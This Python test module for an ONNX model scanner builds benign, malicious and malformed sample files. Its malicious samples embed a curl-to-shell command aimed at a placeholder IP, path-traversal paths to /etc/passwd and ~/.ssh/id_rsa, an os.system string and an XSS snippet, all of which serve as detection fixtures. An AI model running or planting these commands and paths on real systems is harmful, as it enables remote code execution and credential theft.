"""ONNX models: what exporters write, models that reach for files and programs, and broken ones."""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from tests.scanning.sample import Expected, Sample, benign, malformed, malicious
from tests.scanning.wire import Value, entry, field, message

FLOAT, INT64, STRING, INT4 = 1, 7, 8, 22
COMMAND = "curl -s http://203.0.113.18/s | sh"


def tensor(
    name: str,
    dims: list[int],
    *rest: tuple[int, Value],
    kind: int = FLOAT,
    raw: bytes | None = None,
) -> bytes:
    shape = [(1, size) for size in dims]
    data = [] if raw is None else [(9, raw)]
    return message(*shape, (2, kind), (8, name), *data, *rest)


def external(name: str = "w", **entries: str) -> bytes:
    """A tensor of four numbers that lie elsewhere."""
    listed = [(13, message((1, key), (2, value))) for key, value in entries.items()]
    return tensor(name, [4], *listed, (14, 1))


def attribute(name: str, *fields: tuple[int, Value]) -> bytes:
    return message((1, name), *fields)


def node(operator: str, domain: str = "", *attributes: bytes) -> bytes:
    domains: list[tuple[int, Value]] = [(7, domain)] if domain else []
    return message(
        (1, "x"), (2, "y"), (3, "n"), (4, operator), *((5, one) for one in attributes), *domains
    )


def graph(*nodes: bytes, tensors: tuple[bytes, ...] = ()) -> bytes:
    value = message((1, "x"), (2, field(1, message((1, FLOAT), (2, field(1, field(1, 4)))))))
    return message(
        *((1, one) for one in nodes),
        (2, "g"),
        *((5, one) for one in tensors),
        (11, value),
        (12, value),
    )


def model(graph_bytes: bytes, *rest: tuple[int, Value]) -> bytes:
    return message(
        (1, 9), (2, "maker"), (3, "1.0"), (7, graph_bytes), (8, message((1, ""), (2, 18))), *rest
    )


WEIGHTS = tensor("w", [4], raw=bytes(16))
PLAIN = model(graph(node("MatMul"), node("Relu"), tensors=(WEIGHTS,)))
SUBGRAPH = field(6, graph(node("Add")))


def function(domain: str, name: str, *nodes: bytes) -> bytes:
    return message((1, name), (4, "x"), (5, "y"), *((7, one) for one in nodes), (10, domain))


def _benign() -> Iterator[Sample]:
    yield benign("plain", "model.onnx", PLAIN)
    yield benign("no-weights", "model.onnx", model(graph(node("Identity"))))
    yield benign(
        "classical",
        "model.onnx",
        model(
            graph(
                node(
                    "TreeEnsembleClassifier",
                    "ai.onnx.ml",
                    attribute("nodes_modes", (9, "BRANCH_LEQ"), (20, 8)),
                )
            )
        ),
    )
    yield benign(
        "of-the-runtime",
        "model.onnx",
        model(
            graph(node("MultiHeadAttention", "com.microsoft"), node("MatMulNBits", "com.microsoft"))
        ),
    )
    yield benign(
        "sub-graphs",
        "model.onnx",
        model(
            graph(
                node(
                    "If",
                    "",
                    message((1, "then_branch")) + SUBGRAPH,
                    message((1, "else_branch")) + SUBGRAPH,
                )
            )
        ),
    )
    yield benign(
        "own-functions",
        "model.onnx",
        model(
            graph(node("Block", "pkg.torch")), (25, function("pkg.torch", "Block", node("Relu")))
        ),
    )
    types = (
        tensor("i", [2, 2], kind=INT64, raw=bytes(32)),
        tensor("f", [2], (4, bytes(8))),
        tensor("s", [2], (6, b"cat"), (6, b"dog"), kind=STRING),
        tensor("q", [5], kind=INT4, raw=bytes(3)),
        tensor("one", [], raw=bytes(4)),
        tensor("none", [0, 7], raw=b""),
    )
    yield benign("types", "model.onnx", model(graph(node("Gather"), tensors=types)))
    yield benign(
        "props",
        "model.onnx",
        model(
            graph(node("Conv")),
            (14, message((1, "names"), (2, "{0: 'person'}"))),
            (14, message((1, "url"), (2, "https://example.org"))),
        ),
    )
    yield benign(
        "trace-in-words",
        "model.onnx",
        model(
            graph(
                node("Conv")
                + field(6, 'File "net.py", line 3, in forward\n  return self.conv(x).eval()')
            )
        ),
    )
    yield Sample(
        "outside-data",
        Expected.BENIGN,
        {
            "model.onnx": model(
                graph(
                    node("MatMul"),
                    tensors=(external(location="weights.bin.json", offset="0", length="16"),),
                )
            ),
            "weights.bin.json": b'{"twenty bytes": 1234}',
        },
    )
    numbers = struct.pack("<16f", *(0.01 * index - 0.07 for index in range(16)))
    yield Sample(
        "outside-numbers",
        Expected.BENIGN,
        {
            "model.onnx": model(
                graph(
                    node("MatMul"),
                    tensors=(
                        tensor("w", [16], (13, entry("location", "model.onnx.data")), (14, 1)),
                    ),
                )
            ),
            "model.onnx.data": numbers,
        },
    )
    yield benign("in-text", "model.textproto", TEXT.format("Add", "", "w.bin").encode())
    yield benign("in-json", "model.json", in_json("Add", "w.bin"))
    yield benign("tensor", "test_data_set_0/input_0.pb", tensor("x", [4], raw=bytes(16)))
    yield benign(
        "a-text-about-it",
        "README.md",
        b"# ONNX\nLoad `model.onnx` with PyOp? Never: `os.path` is enough.\n",
    )


TEXT = """ir_version: 9
producer_name: "maker"
graph {{
  node {{ input: "x" output: "y" op_type: "{0}" domain: "{1}" }}
  initializer {{ dims: 4 data_type: 1 name: "w" external_data {{ key: "location" value: "{2}" }} data_location: EXTERNAL }}
}}
opset_import {{ domain: "" version: 18 }}
"""


def in_json(operator: str, location: str) -> bytes:
    weights = {
        "dims": ["4"],
        "dataType": 1,
        "name": "w",
        "externalData": [{"key": "location", "value": location}],
    }
    inner = {"node": [{"input": ["x"], "opType": operator}], "initializer": [weights]}
    return json.dumps(
        {"irVersion": "9", "graph": inner, "opsetImport": [{"version": "18"}]}
    ).encode()


PATHS = {
    "absolute": "/etc/passwd",
    "upwards": "../../../etc/passwd",
    "upwards-inside": "data/../../secret",
    "backslash": "..\\..\\secret",
    "drive": "C:/Windows/win.ini",
    "address": "http://203.0.113.18/x",
    "file-address": "file:///etc/passwd",
    "home": "~/.ssh/id_rsa",
    "nul": "weights.bin\0.txt",
    "memory": "*/_ORT_MEM_ADDR_/*",
    "share": "//203.0.113.18/share/x",
    "dots-and-blanks": ".. /secret",
}
DOMAINS = {
    "python": ("PyOp", "pyopmulti_1"),
    "python-in-the-standard": ("PyFunc", ""),
    "autograd": ("PythonOp", "com.microsoft"),
    "shell": ("ShellExecute", "evil.ops"),
    "library": ("LoadLibrary", "evil.ops"),
    "files": ("ReadFile", "custom"),
    "network": ("AzureTextToText", "com.microsoft.extensions"),
    "unknown-domain": ("Fast", "evil.example"),
    "unknown-in-the-standard": ("SystemCall", ""),
    "aten": ("ATen", "org.pytorch.aten"),
}


def _malicious() -> Iterator[Sample]:
    for name, path in PATHS.items():
        yield malicious(
            f"outside-{name}",
            "model.onnx",
            model(graph(node("Add"), tensors=(external(location=path, length="16"),))),
        )
    for name, (operator, domain) in DOMAINS.items():
        yield malicious(
            f"operator-{name}", "model.onnx", model(graph(node("Add"), node(operator, domain)))
        )
    yield malicious(
        "text-operator", "model.textproto", TEXT.format("PyOp", "pyop_1", "w.bin").encode()
    )
    yield malicious(
        "text-outside", "model.textproto", TEXT.format("Add", "", "../../etc/passwd").encode()
    )
    yield malicious(
        "text-unknown", "model.pbtxt", TEXT.format("Fast", "evil.example", "w.bin").encode()
    )
    yield malicious("json-operator", "model.json", in_json("PyOp", "w.bin"))
    yield malicious("json-outside", "model.json", in_json("Add", "/etc/passwd"))
    bad = graph(node("PyOp", "pyop_1"))
    outside = external(location="../x", length="16")
    places = {
        "in-a-sub-graph": model(graph(node("If", "", attribute("then_branch", (6, bad))))),
        "in-sub-graphs": model(graph(node("Scan", "", attribute("bodies", (11, graph(node("Add"))), (11, bad))))),
        "in-a-function": model(graph(node("F", "own")), (25, function("own", "F", node("PyOp", "pyop_1")))),
        "in-training": model(graph(node("Add")), (20, message((2, bad)))),
        "tensor-of-an-attribute": model(graph(node("Constant", "", attribute("value", (5, outside))))),
        "tensors-of-an-attribute": model(graph(node("Constant", "", attribute("values", (10, outside))))),
        "sparse-tensor": model(graph(node("Add")) + field(15, message((1, outside), (2, WEIGHTS), (3, 4)))),
        "deep": model(_deep(bad)),
        "second-graph": model(graph(node("Add")), (7, bad)),
        "after-a-strange-field": field(1000, b"hello") + model(bad),
        "unlisted-entry": model(graph(tensors=(external(location="w.bin", length="16", __class__="os"),))),
        "program-in-a-description": PLAIN + field(6, "__import__('os').system('id')"),
        "command-in-the-metadata": PLAIN + field(14, message((1, "run"), (2, COMMAND))),
        "script-in-a-name": model(graph(node("Add")) + field(10, "<script>alert(1)</script>")),
        "hidden-bytes": PLAIN + field(999, b"MZ\x90\0" * 50),
        "engine-from-elsewhere": model(
            graph(node("EPContext", "com.microsoft", attribute("embed_mode", (3, 0)), attribute("ep_cache_context", (4, "../../x.bin"))))
        ),
    }  # fmt: skip
    for name, content in places.items():
        yield malicious(name, "model.onnx", content)


def _deep(inner: bytes) -> bytes:
    for _ in range(25):
        inner = graph(node("If", "", attribute("then_branch", (6, inner))))
    return inner


def _malformed() -> Iterator[Sample]:
    yield malformed("cut", "model.onnx", PLAIN[:-7])
    yield malformed("cut-early", "model.onnx", PLAIN[: len(PLAIN) // 2])
    yield malformed("followed-by-zeros", "model.onnx", PLAIN + bytes(8))
    yield malformed("followed-by-text", "model.onnx", PLAIN + b"hello there")
    yield malformed(
        "short-tensor",
        "model.onnx",
        model(graph(node("Add"), tensors=(tensor("w", [8], raw=bytes(16)),))),
    )
    yield malformed(
        "negative-shape",
        "model.onnx",
        model(graph(node("Add"), tensors=(tensor("w", [-4], raw=bytes(16)),))),
    )
    yield malformed(
        "huge-shape",
        "model.onnx",
        model(graph(node("Add"), tensors=(tensor("w", [2**62, 2**62], raw=bytes(16)),))),
    )
    yield malformed(
        "no-type",
        "model.onnx",
        model(graph(node("Add"), tensors=(tensor("w", [4], kind=0, raw=bytes(16)),))),
    )
    yield malformed(
        "strange-type",
        "model.onnx",
        model(graph(node("Add"), tensors=(tensor("w", [4], kind=99, raw=bytes(16)),))),
    )
    yield malformed(
        "two-kinds-of-data",
        "model.onnx",
        model(graph(node("Add"), tensors=(tensor("w", [4], (4, bytes(16)), raw=bytes(16)),))),
    )
    yield malformed("group", "model.onnx", PLAIN + b"\x0b\x0c")
    yield malformed("overlong-number", "model.onnx", b"\x08\x89\x80\x00" + PLAIN[2:])
    yield malformed("twice-an-operator", "model.onnx", model(graph(node("Add") + field(4, "Relu"))))
    yield malformed(
        "missing-data",
        "model.onnx",
        model(graph(node("Add"), tensors=(external(location="weights.data", length="16"),))),
    )
    yield malformed(
        "negative-offset",
        "model.onnx",
        model(graph(node("Add"), tensors=(external(location="w", offset="-4", length="16"),))),
    )
    yield malformed("too-deep", "model.onnx", model(_too_deep()))
    yield Sample(
        "data-too-short",
        Expected.MALFORMED,
        {
            "model.onnx": model(
                graph(node("Add"), tensors=(external(location="w.json", offset="8", length="16"),))
            ),
            "w.json": b'{"a": 1}',
        },
    )
    yield malformed("not-text", "model.onnx", model(graph(node("Add")), (6, b"\xff\xfe")))


def _too_deep() -> bytes:
    inner = graph(node("Add"))
    for _ in range(60):
        inner = graph(node("If", "", attribute("then_branch", (6, inner))))
    return inner


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    yield from _benign()
    yield from _malicious()
    yield from _malformed()
